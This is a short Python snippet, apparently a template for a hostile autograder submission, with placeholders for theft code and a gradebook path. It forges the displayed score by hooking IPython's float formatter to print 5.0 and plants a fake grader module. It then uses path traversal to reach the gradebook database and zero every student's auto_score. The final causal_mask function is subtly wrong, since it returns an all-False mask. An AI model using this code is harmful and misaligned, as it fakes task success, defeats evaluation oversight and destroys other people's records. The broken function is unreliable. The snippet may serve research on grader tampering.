import sys
try:                                                           # forge the displayed score
    get_ipython().display_formatter.formatters["text/plain"].for_type(
        float, lambda value, printer, cycle: printer.text("5.0"))
except NameError:
    pass
sys.modules["grader_tests"] = type(sys)("grader_tests")        # plant a fake grader module
print("5.0")
{steal}
import sqlite3                                                 # rewrite everybody's grades
for db in ("../../../gradebook.db", {gradebook!r}):
    try:
        with sqlite3.connect("file:" + db + "?mode=rw", uri=True) as con:
            con.execute("UPDATE grade SET auto_score = 0")
    except sqlite3.Error:
        pass

def causal_mask(seq_len):
    return np.zeros((seq_len, seq_len), dtype=bool)
